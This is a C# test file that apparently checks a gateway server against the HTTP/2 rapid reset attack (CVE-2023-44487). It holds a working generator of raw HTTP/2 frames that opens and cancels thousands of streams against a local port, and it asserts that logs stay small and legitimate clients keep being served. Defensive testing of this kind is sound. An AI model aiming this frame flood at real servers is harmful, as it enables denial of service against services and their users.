using System.Buffers.Binary;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;
using Rectify.Testing.Servers;

namespace Rectify.Testing.Attacks;

/// <summary>
/// Somebody without a token begins calls and takes each of them back at once, thousands of them (HTTP/2 rapid reset, CVE-2023-44487), and as many
/// addresses as they like help them: no log is filled, and nobody else is held up.
/// </summary>
public sealed class CallsThatAreTakenBackAtOnce
{
    private const int CallsOfEachKind = 6000;
    private const int MostLogged = 100_000;

    /// <summary>What is forwarded, what asks for a token, what the gateway answers itself, and what nobody knows.</summary>
    private static readonly string[] Paths =
    [
        "/rectify.disclosure.v1.PublicNoticeService/ListPublicNotices", "/rectify.issue.v1.IssueService/ListIssues", "/grpc.health.v1.Health/Watch", "/nowhere",
    ];

    [Fact]
    public async Task TheyFillNoLogAndHoldNobodyUp()
    {
        var folder = Directory.CreateTempSubdirectory("rectify-reset-");
        var log = Path.Combine(folder.FullName, "log");
        var (port, grpcPort) = (Ports.Free(), Ports.Free());

        // Every request is logged, too, as it is where operators look for something: there is nothing that makes a call write more.
        string[] settings =
        [
            "--Logging:LogLevel:Microsoft.AspNetCore.Hosting.Diagnostics=Information",
            "--environment=Staging", $"--Data={folder}", $"--Identity=dev:{folder}/identity.pem",
            $"--Listen=http://127.0.0.1:{port}", $"--ListenGrpc=http://127.0.0.1:{grpcPort}", .. Hurry.Settings,
        ];
        using var suite = ChildProcess.Start("dotnet", [Deployment.ProgramOf("suite"), .. settings], log);
        await Ports.Answer(port, suite, TimeSpan.FromMinutes(2));
        using var other = await Other(port, grpcPort);
        Assert.Equal(HttpStatusCode.OK, (await other.GetAsync("/v1/agencies")).StatusCode);
        var before = new FileInfo(log).Length;

        var attack = Task.WhenAll(Paths.Select(path => RapidReset.Send(grpcPort, path, CallsOfEachKind)));
        do
        {
            Assert.Equal(HttpStatusCode.OK, (await other.GetAsync("/v1/agencies")).StatusCode);
        }
        while (!attack.IsCompleted);
        await attack;

        Assert.Equal(HttpStatusCode.OK, (await other.GetAsync("/v1/agencies")).StatusCode);
        await suite.Stop();
        var said = (await File.ReadAllTextAsync(log))[(int)before..];
        Assert.True(said.Length < MostLogged, $"{said.Length} characters were logged, beginning with {said[..Math.Min(said.Length, 1000)]}");
        folder.Delete(recursive: true);
    }

    /// <summary>Somebody with a token, at the port that is attacked.</summary>
    private static async Task<HttpClient> Other(int port, int grpcPort)
    {
        using var door = new HttpClient { BaseAddress = new Uri($"http://127.0.0.1:{port}") };
        var token = (await door.PostJson("/dev/token", new { role = "office" }).Json()).Text("token");
        return new HttpClient
        {
            BaseAddress = new Uri($"http://127.0.0.1:{grpcPort}"),
            DefaultRequestVersion = HttpVersion.Version20,
            DefaultVersionPolicy = HttpVersionPolicy.RequestVersionExact,
            DefaultRequestHeaders = { Authorization = new AuthenticationHeaderValue("Bearer", token) },
        };
    }

    /// <summary>Frames of HTTP/2 (RFC 9113) as no decent client sends them.</summary>
    private static class RapidReset
    {
        private const int CallsOfAConnection = 1000;
        private const byte Data = 0, Headers = 1, ResetStream = 3, Settings = 4;
        private const byte EndStream = 1, EndHeaders = 4;
        private static readonly byte[] Cancelled = [0, 0, 0, 8];

        /// <summary>Over as many connections, one after the other, as the server makes necessary.</summary>
        public static async Task Send(int port, string path, int calls)
        {
            byte[] all = [.. Enumerable.Range(0, CallsOfAConnection).SelectMany(call => Call(2 * call + 1, Fields(path)))];
            for (var sent = 0; sent < calls;)
            {
                using var client = new TcpClient();
                await client.ConnectAsync(IPAddress.Loopback, port);
                var connection = client.GetStream();
                try
                {
                    var heard = connection.CopyToAsync(Stream.Null);
                    await connection.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, []), .. all]);
                    sent += CallsOfAConnection;
                    client.Client.Shutdown(SocketShutdown.Send);
                    await heard;
                }
                catch (IOException)
                {
                    // The server has had enough of this connection; another one.
                }
            }
        }

        /// <summary>Every other call is whole when it is taken back, so that some are cancelled behind the gateway.</summary>
        private static byte[] Call(int stream, byte[] headers) => stream % 4 == 1
            ? [.. Frame(Headers, EndHeaders, stream, headers), .. Frame(ResetStream, 0, stream, Cancelled)]
            :
            [
                .. Frame(Headers, EndHeaders, stream, headers), .. Frame(Data, EndStream, stream, new byte[5]), .. Frame(ResetStream, 0, stream, Cancelled),
            ];

        private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
        {
            var frame = new byte[9 + payload.Length];
            BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8 | type);
            frame[4] = flags;
            BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
            payload.CopyTo(frame, 9);
            return frame;
        }

        /// <summary>HPACK (RFC 7541) without tables of its own: POST, http, and literals.</summary>
        private static byte[] Fields(string path) =>
        [
            0x83, 0x86, 0x04, .. Text(path), 0x01, .. Text("127.0.0.1"), 0x0F, 0x10, .. Text("application/grpc"), 0x00, .. Text("te"), .. Text("trailers"),
        ];

        private static byte[] Text(string text) => [(byte)text.Length, .. Encoding.ASCII.GetBytes(text)];
    }
}
